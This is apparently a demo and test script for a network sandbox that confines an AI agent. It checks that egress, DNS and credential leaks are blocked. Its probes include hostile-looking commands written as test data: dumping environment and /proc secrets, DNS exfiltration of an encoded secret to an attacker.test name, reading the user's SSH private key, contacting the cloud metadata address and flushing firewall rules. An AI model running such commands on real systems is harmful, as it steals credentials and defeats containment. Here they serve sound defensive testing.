# SPDX-License-Identifier: GPL-3.0-or-later
"""make demo: a bottle made with `hostctl up` in front of the lab's internet; what an agent in it may do, and what happens
when it tries the rest. Every step says what was tried and what came of it. Status 0 only if each went as it should."""
import json
import os
import secrets
import socket
import sys
import time

from host import MANIFEST, Host
from lab import Lab, allowed_targets
from spaces import Failed
from world import NAMES, STRANGER

TOKEN = f"demo-{secrets.token_urlsafe(24)}"  # in the environment of hostctl, as a user's
FORGE = """\
    - host: forge.test
      auth: {scheme: Bearer, token_ref: FORGE_TOKEN}
  extra_ca: [lab-ca.pem]
"""
COLOURS = {"OK": "\033[32m", "FAIL": "\033[1;31m", "title": "\033[1m"} if sys.stdout.isatty() else {}


def paint(text, colour):
    return f"{COLOURS[colour]}{text}\033[0m" if colour in COLOURS else text


class Show:
    """Prints the steps and counts the failures."""

    def __init__(self):
        self.failures = 0

    def title(self, text):
        print(f"\n{paint(text, 'title')}", flush=True)

    def step(self, tried, happened, good):
        self.failures += not good
        mark = "OK" if good else "FAIL"
        print(f"  {paint(f'{mark:4}', mark)}  {tried:<54} {happened}", flush=True)

    def attempt(self, tried, probe, words, good):
        """A probe, timed: what it returned becomes words and a judgement."""
        begin = time.monotonic()
        answer = probe()
        took = (time.monotonic() - begin) * 1000
        try:
            happened, fine = words(answer), bool(good(answer))
        except (KeyError, TypeError, IndexError):
            happened, fine = repr(answer), False
        self.step(tried, f"{happened}  [{took:.0f} ms]", fine)
        return answer


def refused(answer):
    """What a refused client saw, in words."""
    return {"ECONNRESET": "connection reset", "EHOSTUNREACH": "ICMP: prohibited", "EPERM": "not permitted",
            "EACCES": "permission denied", "ENETUNREACH": "network is unreachable", "EADDRNOTAVAIL": "there is no IPv6 address"}.get(answer["error"], answer["error"])


def allowed(show, agent):
    show.title("Allowed hosts work, with no proxy variable")
    page = lambda answer: f"{answer['status']} {answer['body'].strip()}"
    for scheme, probe, host in (("http", agent.http, "plain.test"), ("https", agent.https, "allowed.test"),
                                ("https", agent.https, "deep.er.sub.test")):
        show.attempt(f"GET {scheme}://{host}/", lambda: probe(host=host), page,
                     lambda answer: answer["status"] == 200 and host in answer["body"])


def denied(show, agent):
    show.title("Other hosts are refused at once, and say why")
    show.attempt("GET http://denied.test/", lambda: agent.http(host="denied.test"),
                 lambda answer: f"{answer['status']} {answer['json']['detail']}",
                 lambda answer: answer["status"] == 403 and answer["json"]["host"] == "denied.test")
    show.attempt("GET https://denied.test/", lambda: agent.https(host="denied.test"),
                 lambda answer: f"{answer['status']} {answer['json']['detail']}",
                 lambda answer: answer["status"] == 403 and answer["json"]["host"] == "denied.test")
    show.attempt(f"GET http://{NAMES['denied.test']}/ (its address)",
                 lambda: agent.http(host=NAMES["denied.test"]), lambda answer: f"{answer['status']} {answer['json']['detail']}",
                 lambda answer: answer["status"] == 403)
    show.attempt("TLS to its address, without a name",
                 lambda: agent.https(host=NAMES["denied.test"], sni=False),
                 lambda answer: f"{answer['status']} {answer['json']['detail']}", lambda answer: answer["status"] == 403)
    show.attempt("GET http://plain.test/ at a stranger's address", lambda: agent.http(host="plain.test", address=STRANGER),
                 lambda answer: answer["body"].strip() + " (the name decides, not the address)",
                 lambda answer: answer["status"] == 200 and NAMES["plain.test"] in answer["body"])


def token(show, host, bottle):
    """The agent sends a credential of its own; the upstream is sent the route's in its place, and echoes it."""
    show.title("TLS is opened: a token that the agent uses and never sees")
    agent, seen, stars = bottle.agent, len(host.lab.world.log()), f"Bearer {'*' * len(TOKEN)}"
    answer = show.attempt("GET https://forge.test/echo, sending a credential",
                          lambda: agent.https(host="forge.test", path="/echo", ca=None, fields=["Authorization: Bearer the-agents-own"]),
                          lambda answer: f"{answer['status']}, under a certificate of the bottle's own authority",
                          lambda answer: answer["status"] == 200)
    sent = [json.loads(line)["authorization"] for line in host.lab.world.log()[seen:]]
    show.step("what forge.test was sent", f"Authorization: {sent[0][:16]}…, the token of hostctl's environment" if sent else "nothing",
              sent == [f"Bearer {TOKEN}"])
    body, field = answer.get("body", "").strip(), answer.get("headers", {}).get("x-echo")
    show.step("what forge.test echoed, as it reached the agent", body, body == f"you said {stars}")
    show.step("the same echo in a header field", f"X-Echo: {field}", field == stars)
    show.attempt("all that the agent's processes, /etc and /run hold",
                 lambda: agent.run(argv=["sh", "-c", "env; cat /proc/*/environ /proc/*/cmdline; find /etc /run -type f -exec cat {} +"]),
                 lambda answer: f"{len(answer['out'])} bytes, {answer['out'].count(TOKEN)} times the token",
                 lambda answer: len(answer["out"]) > 1000 and TOKEN not in answer["out"])
    show.attempt("GET http://forge.test/echo, in clear", lambda: agent.http(host="forge.test", path="/echo"),
                 lambda answer: f"{answer['status']} {answer['json']['title']}",
                 lambda answer: answer["status"] == 403 and answer["json"]["type"].endswith("auth-needs-tls"))


def names(show, agent, capture):
    show.title("DNS does not carry anything out")
    secret = "c2VjcmV0LXRva2Vu"
    own = agent.resolve(name="denied.test")
    for tried, name, kind in ((f"A {secret}.attacker.test", f"{secret}.attacker.test", "A"),
                              (f"A {secret}.sub.test (wildcard host)", f"{secret}.sub.test", "A"),
                              ("TXT allowed.test", "allowed.test", "TXT"), ("HTTPS allowed.test (offers HTTP/3)", "allowed.test", "HTTPS")):
        show.attempt(tried, lambda: agent.dns(server=STRANGER, name=name, kind=kind),
                     lambda answer: f"the sidecar's own address {answer['addresses'][0]}" if answer["addresses"] else "no data",
                     lambda answer: answer["addresses"] == (own if kind == "A" else []))
    capture.flush()
    found = capture.holds(secret)
    show.step("the secret label on the wire", f"{len(found)} packets" if found else "never seen", not found)


def packets(show, agent):
    show.title("Nothing else leaves")
    for tried, probe, error in (
            (f"QUIC: UDP {STRANGER}:443", lambda: agent.udp(address=STRANGER, port=443), ("EHOSTUNREACH",)),
            (f"mDNS: UDP {STRANGER}:5353", lambda: agent.udp(address=STRANGER, port=5353), ("EHOSTUNREACH",)),
            (f"ICMP: ping {STRANGER}", lambda: agent.ping(address=STRANGER), ("EPERM", "EACCES")),
            (f"TCP {STRANGER}:9999", lambda: agent.tcp(address=STRANGER, port=9999, send="hello\n"), ("ECONNRESET",)),
            ("TCP metadata service 169.254.169.254:9999",
             lambda: agent.tcp(address="169.254.169.254", port=9999, send="hello\n"), ("ECONNRESET",)),
            ("IPv6: UDP [2001:db8::53]:53", lambda: agent.udp(address="2001:db8::53", port=53), ("EADDRNOTAVAIL", "EHOSTUNREACH", "ENETUNREACH"))):
        show.attempt(tried, probe, refused, lambda answer: answer["error"] in error)
    show.attempt("SSH: git@ssh.test:22", lambda: agent.tcp(address=NAMES["ssh.test"], port=22, send="SSH-2.0-demo\r\n"),
                 lambda answer: "disconnected: " + answer["data"][answer["data"].index("SSH is"):].partition(" (event")[0],
                 lambda answer: "SSH is not a way out" in answer["data"])


def seal(show, host, bottle, daemon):
    show.title("The agent cannot change the wall, nor see the host")
    agent = bottle.agent
    first = lambda answer: (answer["err"].strip() or answer["out"].strip() or str(answer["status"])).splitlines()[0]
    show.attempt("ip route replace default via 203.0.113.1",
                 lambda: agent.run(argv=["ip", "route", "replace", "default", "via", "203.0.113.1"]), first,
                 lambda answer: "not permitted" in answer["err"])
    show.attempt("nft flush ruleset", lambda: agent.run(argv=["/usr/sbin/nft", "flush", "ruleset"]), first,
                 lambda answer: "not permitted" in answer["err"])
    show.attempt("a packet socket (AF_PACKET)", lambda: agent.open_socket(family="AF_PACKET", kind="SOCK_RAW"), str,
                 lambda answer: answer == "EPERM")
    key = os.path.join(host.home, ".ssh", "id_ed25519")
    show.attempt("read the user's ~/.ssh/id_ed25519", lambda: agent.read(path=key), lambda answer: answer["error"],
                 lambda answer: answer["error"] == "ENOENT")
    show.attempt("connect to a host daemon's Unix socket", lambda: agent.unix(path=daemon), lambda answer: answer["error"],
                 lambda answer: answer["error"] == "ENOENT")
    show.attempt("list all processes", lambda: agent.read(path="/proc"),
                 lambda answer: f"only its own: {', '.join(filter(str.isdigit, answer['names']))}",
                 lambda answer: len(list(filter(str.isdigit, answer["names"]))) <= 4)
    show.attempt("capabilities and no_new_privs", agent.status,
                 lambda answer: f"CapBnd {answer['CapBnd']}, NoNewPrivs {answer['NoNewPrivs']}, uid {answer['Uid'].split()[0]}",
                 lambda answer: int(answer["CapBnd"], 16) == 0 and answer["NoNewPrivs"] == "1" and answer["Uid"][0] != "0")


def record(show, bottle):
    show.title("hostctl logs: who tried what")
    keys = ("kind", "verdict", "reason", "rule", "host", "path", "protocol", "address", "port", "status", "upstream", "count")
    for wanted in ({"kind": "http", "verdict": "allow", "host": "plain.test"}, {"kind": "tls", "verdict": "allow", "host": "allowed.test"},
                   {"kind": "http", "verdict": "block", "host": "denied.test"}, {"kind": "http", "verdict": "block", "host": "denied.test", "port": 443},
                   {"kind": "http", "verdict": "redact", "host": "forge.test"}, {"kind": "dns", "verdict": "block"}, {"kind": "tcp", "verdict": "block", "reason": "ssh"},
                   {"kind": "tcp", "verdict": "block", "port": 9999}, {"kind": "packet", "verdict": "block", "protocol": "udp"}):
        try:
            line = bottle.audit.wait(seconds=5, **wanted)
            show.step(" ".join(str(line.get(key)) for key in keys[:2]), " ".join(
                f"{key}={line[key]}" for key in keys[2:] if line.get(key) not in (None, "")), True)
        except AssertionError:
            show.step(" ".join(map(str, wanted.values())), "no such line", False)


def link(show, capture, host):
    show.title("The egress link, captured from the first step to the last")
    allowed_here = allowed_targets("allowed.test", "plain.test", "wild.sub.test", "forge.test")
    leaks = capture.leaks(host.address, allowed_here)
    targets = sorted({f"{frame.target}:{frame.port}/{frame.kind}" for frame in capture.frames
                      if frame.source == host.address and not frame.is_neighbourhood()})
    show.step(f"{len(capture.frames)} packets, which all went to", ", ".join(targets), bool(targets) and not leaks)
    for leak in leaks[:5]:
        show.step("a packet that left around the policy", repr(leak), False)


def play(show, lab):
    host = Host(lab)
    try:
        with open(lab.world.ca, encoding="ascii") as authority:
            host.write("lab-ca.pem", authority.read())
        manifest = host.write("demo.yaml", MANIFEST + FORGE)
        host.environment["FORGE_TOKEN"] = TOKEN
        daemon = os.path.join(host.dir, "daemon.sock")
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind(daemon)
            os.chmod(daemon, 0o777)
            listener.listen()
            with host.capture() as capture:
                begin = time.monotonic()
                bottle = host.up(manifest=manifest)
                try:
                    print(f"hostctl up: the bottle is ready after {time.monotonic() - begin:.1f} s. Its manifest:\n")
                    with open(manifest, encoding="utf-8") as file:
                        print("".join(f"    {line}" for line in file), end="")
                    allowed(show, bottle.agent)
                    denied(show, bottle.agent)
                    token(show, host, bottle)
                    names(show, bottle.agent, capture)
                    packets(show, bottle.agent)
                    seal(show, host, bottle, daemon)
                    record(show, bottle)
                    done = bottle.down()
                finally:
                    bottle.close()
            link(show, capture, host)
        show.title("hostctl down")
        try:
            host.clean()
            show.step("processes, links, rules, mounts, files on the host", "as they were before", done.returncode == 0)
        except AssertionError as problem:
            show.step("processes, links, rules, mounts, files on the host", str(problem), False)
    finally:
        host.close()


def main():
    if os.geteuid() != 0:
        sys.exit("the demo makes network namespaces and needs root")
    show, begin = Show(), time.monotonic()
    print(paint("Stopper: one agent in a bottle, in front of a small internet of namespaces on this machine", "title"))
    try:
        lab = Lab("demo")
        try:
            play(show, lab)
        finally:
            lab.close()
    except Failed as problem:
        show.step("the lab", str(problem), False)
    print(f"\n{'all as it should be' if not show.failures else f'{show.failures} steps FAILED'}, {time.monotonic() - begin:.0f} s")
    return 1 if show.failures else 0


if __name__ == "__main__":
    sys.exit(main())
